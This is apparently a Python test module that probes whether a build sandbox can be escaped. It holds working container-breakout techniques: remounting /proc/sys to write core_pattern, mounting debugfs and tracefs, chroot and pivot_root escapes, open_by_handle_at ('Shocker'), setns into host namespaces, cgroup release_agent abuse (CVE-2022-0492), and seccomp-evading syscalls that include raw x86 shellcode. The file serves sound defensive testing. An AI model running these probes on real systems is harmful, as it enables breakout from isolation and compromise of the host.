"""Mounts, roots, handles and namespaces: ways to see more of the file systems than the tree."""

from __future__ import annotations

import ctypes
import errno
import os
import struct
from collections.abc import Callable

from tests.escape.inside.probing import (
    PIVOTED,
    PLAIN,
    Finding,
    Lacking,
    Left,
    Reached,
    Surface,
    World,
    call,
    check,
    first_that_works,
    fresh,
    libc,
    marked,
    no,
    open_to_write,
    others,
    probe,
)

MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 0x1, 0x20, 0x1000, 0x4000
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWCGROUP, CLONE_NEWTIME = 0x20000, 0x10000000, 0x2000000, 0x80
_NAMESPACES = {"mnt": CLONE_NEWNS, "net": 0x40000000, "uts": 0x4000000, "ipc": 0x8000000, "pid": 0x20000000}


def mount(source: str, target: str, kind: str, flags: int = 0, data: str = "") -> None:
    """mount(2)."""
    result = libc.mount(
        source.encode(), target.encode(), kind.encode() or None, ctypes.c_ulong(flags), data.encode() or None
    )
    check(result, f"mount {kind or source}")


def _read(path: str, what: str) -> Finding:
    with open(path, "rb") as file:
        return marked(file.read(1 << 16), what)


@probe("mounts", PLAIN)
def mount_seen_outside(world: World) -> Finding:
    """Make a mount that the host sees."""
    os.makedirs("/mount-seen-outside", exist_ok=True)
    mount("none", "/mount-seen-outside", "tmpfs")
    return Left("a tmpfs")


@probe("mounts")
def fresh_proc(world: World) -> Finding:
    """Mount a second /proc, without what covers the first, and change a setting of the kernel."""
    place = fresh("proc")
    mount("proc", place, "proc")
    return open_to_write(f"{place}/sys/kernel/core_pattern")


@probe("mounts")
def settings_remounted(world: World) -> Finding:
    """Remount /proc/sys to be writable and change a setting of the kernel."""
    target = "/proc/sys" if os.path.ismount("/proc/sys") else "/proc"
    mount("none", target, "", MS_REMOUNT | MS_BIND)
    return open_to_write("/proc/sys/kernel/core_pattern")


@probe("mounts")
def covers_taken_off(world: World) -> Finding:
    """Unmount what covers /proc/kcore, /proc/sys and the like."""
    if not any(os.path.ismount(path) for path in ("/proc/sys", "/proc/kcore")):
        mount("/proc/sys", "/proc/sys", "", MS_BIND)
    check(libc.umount2(b"/proc/sys", 2), "umount")
    return open_to_write("/proc/sys/kernel/core_pattern")


@probe("mounts")
def tree_uncovered(world: World) -> Finding:
    """Clone the tree's mount, without what is mounted on it, and use what lies beneath."""
    tree = call("open_tree", -100, b"/", 1 | os.O_CLOEXEC)
    return Surface(f"a mount of its own: {len(os.listdir(f'/proc/self/fd/{tree}'))} entries")


@probe("mounts")
def fresh_sysfs(world: World) -> Finding:
    """Mount a /sys of its own that is writable and change the kernel by it."""
    place = fresh("sysfs")
    mount("sysfs", place, "sysfs")
    return open_to_write(f"{place}/kernel/mm/transparent_hugepage/enabled", f"{place}/kernel/profiling")


@probe("mounts")
def kernel_debugger(world: World) -> Finding:
    """Mount debugfs, the kernel's insides."""
    place = fresh("debugfs")
    mount("debugfs", place, "debugfs")
    return Reached(f"debugfs with {len(os.listdir(place))} entries")


@probe("mounts")
def kernel_tracer(world: World) -> Finding:
    """Mount tracefs, to trace every process of the host."""
    place = fresh("tracefs")
    mount("tracefs", place, "tracefs")
    return Reached(f"tracefs with {len(os.listdir(place))} entries")


@probe("mounts")
def kernel_objects(world: World) -> Finding:
    """Mount the file system of pinned BPF objects."""
    place = fresh("bpffs")
    mount("bpf", place, "bpf")
    return Surface("a BPF file system")


@probe("mounts", PIVOTED)
def overlay_in_namespace(world: World) -> Finding:
    """Mount an overlay in a user namespace of one's own, as in CVE-2021-3493 and CVE-2023-0386."""
    _become_root_of_own(CLONE_NEWNS)
    place = fresh("overlay")
    mount("none", place, "tmpfs")
    for name in ("lower", "upper", "work", "merged"):
        os.mkdir(f"{place}/{name}")
    mount(
        "none", f"{place}/merged", "overlay", 0, f"lowerdir={place}/lower,upperdir={place}/upper,workdir={place}/work"
    )
    return Surface("an overlay mounted")


@probe("mounts", PIVOTED)
def file_system_opened(world: World) -> Finding:
    """Configure a file system by fsopen(2) in a user namespace of one's own, as in CVE-2022-0185."""
    _become_root_of_own(CLONE_NEWNS)
    context = call("fsopen", b"tmpfs", 0)
    call("fsconfig", context, 1, b"size", b"4096", 0)
    return Surface("a file system being configured")


@probe("mounts")
def mount_of_own_namespace(world: World) -> Finding:
    """Leave for a mount namespace of one's own and mount there."""
    _unshare(CLONE_NEWNS)
    mount("none", fresh("own"), "tmpfs")
    return Surface("a mount in a namespace of one's own")


def _unshare(flags: int) -> None:
    check(libc.unshare(flags), "unshare")


def _become_root_of_own(flags: int) -> None:
    """Leave for a user namespace in which this process is root, and for others that belong to it."""
    _unshare(CLONE_NEWUSER | flags)
    for name, line in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(line)


@probe("chroot by open directory")
def directory_kept_open(world: World) -> Finding:
    """Keep a directory open, chroot(2) below it and climb from it to the host's root."""
    os.makedirs("/below", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("/below")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return _read(world.secret, "a file of the host")


@probe("chroot by open directory")
def descriptor_left_open(world: World) -> Finding:
    """Open a file beneath a directory that whoever started the command left open."""
    wanted = os.path.basename(world.secret)

    def look(number: int) -> Finding:
        with open(os.open(wanted, os.O_RDONLY, dir_fd=number), "rb") as file:
            return marked(file.read(), f"descriptor {number}")

    return first_that_works(_open_descriptors(), look)


def _open_descriptors() -> list[int]:
    return [int(name) for name in os.listdir("/proc/self/fd")]


@probe("chroot by open directory", PIVOTED)
def root_changed(world: World) -> Finding:
    """Change roots with pivot_root(2), so that what lies beneath the old one comes to light."""
    _unshare(CLONE_NEWNS)
    place = fresh("pivot")
    mount("none", "/", "", 0x44000)
    mount(place, place, "", MS_BIND)
    os.mkdir(f"{place}/old")
    call("pivot_root", place.encode(), f"{place}/old".encode())
    return Surface(f"roots changed: {len(os.listdir('/old'))} entries in the old one")


@probe("links and mounts out of the tree", PLAIN)
def link_for_the_daemon(world: World) -> Finding:
    """Leave a link to a file of the host where the daemon reads a file of the tree."""
    os.makedirs("/left-behind", exist_ok=True)
    os.symlink(world.secret, "/left-behind/link")
    return Left("a symbolic link to the host's secret")


@probe("links and mounts out of the tree", PLAIN)
def link_for_the_daemons_writing(world: World) -> Finding:
    """Leave a link to a directory of the host where the daemon writes a file of the tree."""
    os.makedirs("/left-behind", exist_ok=True)
    os.symlink(os.path.dirname(world.secret), "/left-behind/folder")
    return Left("a symbolic link to a directory of the host")


@probe("links and mounts out of the tree", PLAIN)
def bind_written(world: World) -> Finding:
    """Write to a directory of the host that is bound read-only."""
    with open("/host-share/file", "r+b") as file:
        file.write(file.read(1))
    return Reached("wrote to a file of the host")


@probe("handles")
def file_handle(world: World) -> Finding:
    """Open a file of the host by its handle (open_by_handle_at(2), the way of \"Shocker\")."""
    handle = bytes.fromhex(world.handle)
    packed = struct.pack("Ii", len(handle), world.handle_type) + handle

    def look(directory: str) -> Finding:
        place = os.open(directory, os.O_RDONLY)
        found = check(libc.open_by_handle_at(place, packed, os.O_RDONLY), f"open_by_handle_at on {directory}")
        with open(found, "rb") as file:
            return marked(file.read(), "a file by its handle")

    places = [place for place in ("/", "/host-share", "/tmp") if os.path.isdir(place)]
    return first_that_works(places, look)


@probe("handles")
def root_handle(world: World) -> Finding:
    """Open the root of the host's file system by a guessed handle: inode 2."""
    packed = struct.pack("IiII", 8, 1, 2, 0)
    place = os.open("/host-share" if os.path.isdir("/host-share") else "/", os.O_RDONLY)
    found = check(libc.open_by_handle_at(place, packed, os.O_RDONLY | os.O_DIRECTORY), "open_by_handle_at")
    return Reached(f"the root of a file system, with {len(os.listdir(found))} entries")


@probe("namespaces joined")
def namespace_of_process(world: World) -> Finding:
    """Join the host's namespaces by the files in /proc/PID/ns."""

    def join(place: tuple[str, str]) -> Finding:
        path, name = place
        namespace = os.open(path, os.O_RDONLY)
        if os.fstat(namespace).st_ino != world.namespaces[name]:
            raise no(errno.ENOENT, f"{path} is not the host's")
        check(libc.setns(namespace, _NAMESPACES[name]), f"setns {name}")
        return Reached(f"in the host's {name} namespace")

    # The network's is shared in the original; joining what one is in already proves nothing.
    paths = [(f"/proc/{process}/ns/{name}", name) for process in others() for name in ("mnt", "pid")]
    return first_that_works(paths, join)


@probe("namespaces joined", PLAIN)
def namespace_by_process_descriptor(world: World) -> Finding:
    """Join the host's namespaces by a descriptor of one of its processes (pidfd_open(2), setns(2))."""
    process = os.pidfd_open(world.victim)
    check(libc.setns(process, CLONE_NEWNS), "setns")
    return _read(world.secret, "a file of the host")


@probe("namespaces joined", PIVOTED)
def user_namespace(world: World) -> Finding:
    """Make a user namespace of one's own, and have every capability in it."""
    _unshare(CLONE_NEWUSER)
    return Surface("every capability in a user namespace of one's own")


@probe("namespaces joined", PIVOTED)
def user_namespace_by_clone3(world: World) -> Finding:
    """Make a user namespace by clone3(2), whose flags a filter cannot see."""
    arguments = struct.pack("11Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    child = call("clone3", arguments, len(arguments))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return Surface("a process in a user namespace of its own")


@probe("namespaces joined", PIVOTED)
def user_namespace_by_32_bit_call(world: World) -> Finding:
    """Make a user namespace by a 32-bit program's call, with which a filter may not reckon."""
    if os.uname().machine != "x86_64":
        raise Lacking("x86-64 only")
    # push rbx; mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code = bytes.fromhex("53b836010000bb00000010cd805bc3")
    result = _machine_code(code)()
    if result < 0:
        raise no(-result, "unshare by int 0x80")
    return Surface("a user namespace of one's own")


@probe("namespaces joined", PIVOTED, machine=True)
def user_namespace_by_x32_call(world: World) -> Finding:
    """Make a user namespace by a call of the x32 ABI, with which a filter may not reckon."""
    if os.uname().machine != "x86_64":
        raise Lacking("x86-64 only")
    check(libc.syscall(ctypes.c_long(272 | 0x40000000), ctypes.c_long(CLONE_NEWUSER)), "unshare of x32")
    return Surface("a user namespace of one's own")


def _machine_code(code: bytes) -> Callable[[], int]:
    libc.mmap.restype = ctypes.c_void_p
    # PROT_READ | WRITE | EXEC; MAP_PRIVATE | ANONYMOUS | 32BIT
    place = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x62, -1, ctypes.c_long(0))
    ctypes.memmove(place, code, len(code))
    function: Callable[[], int] = ctypes.CFUNCTYPE(ctypes.c_int)(place)
    return function


@probe("namespaces joined")
def time_namespace(world: World) -> Finding:
    """Leave for a time namespace of one's own."""
    _unshare(CLONE_NEWTIME)
    return Surface("a time namespace of one's own")


@probe("cgroup release agents")
def release_agent(world: World) -> Finding:
    """Mount a hierarchy of control groups and name a program that the host runs."""
    return open_to_write(f"{_groups(world)}/release_agent")


def _groups(world: World) -> str:
    """Where control groups of version 1 are mounted now."""
    place = fresh("cgroup")

    def mounted(options: str) -> Finding:
        mount("cgroup", place, "cgroup", 0, options)
        return Reached(options)

    # A hierarchy that is new would stay behind on a host: only the machine makes one.
    first_that_works(["memory", "pids", *(["none,name=escape"] if world.expendable else [])], mounted)
    return place


@probe("cgroup release agents", PIVOTED)
def release_agent_in_namespace(world: World) -> Finding:
    """Mount control groups in a user and a cgroup namespace of one's own (CVE-2022-0492)."""
    _become_root_of_own(CLONE_NEWNS | CLONE_NEWCGROUP)
    _groups(world)
    return Surface("control groups mounted in a namespace of one's own")


@probe("cgroup release agents")
def groups_left(world: World) -> Finding:
    """Mount the host's control groups of version 2 and leave those of the build, with its limits."""
    place = fresh("cgroup")
    mount("cgroup2", place, "cgroup2")
    return open_to_write(f"{place}/cgroup.procs")


@probe("cgroup release agents")
def groups_left_1(world: World) -> Finding:
    """Mount the host's control groups of version 1 and leave those of the build, with its limits."""
    return open_to_write(f"{_groups(world)}/cgroup.procs")


@probe("cgroup release agents")
def groups_in_sysfs(world: World) -> Finding:
    """Leave the build's control groups through /sys/fs/cgroup."""
    found = [
        os.path.join(place, "cgroup.procs") for place, _, names in os.walk("/sys/fs/cgroup") if "cgroup.procs" in names
    ]
    return first_that_works(found, open_to_write)


@probe("cgroup release agents")
def device_rules(world: World) -> Finding:
    """Allow every device by the devices controller of version 1."""
    with open("/proc/cgroups") as controllers:
        if not any(line.startswith("devices\t") and line.split()[1] != "0" for line in controllers):
            raise Lacking("no devices controller of version 1")
    place = fresh("devices")
    mount("cgroup", place, "cgroup", 0, "devices")
    return open_to_write(f"{place}/devices.allow")
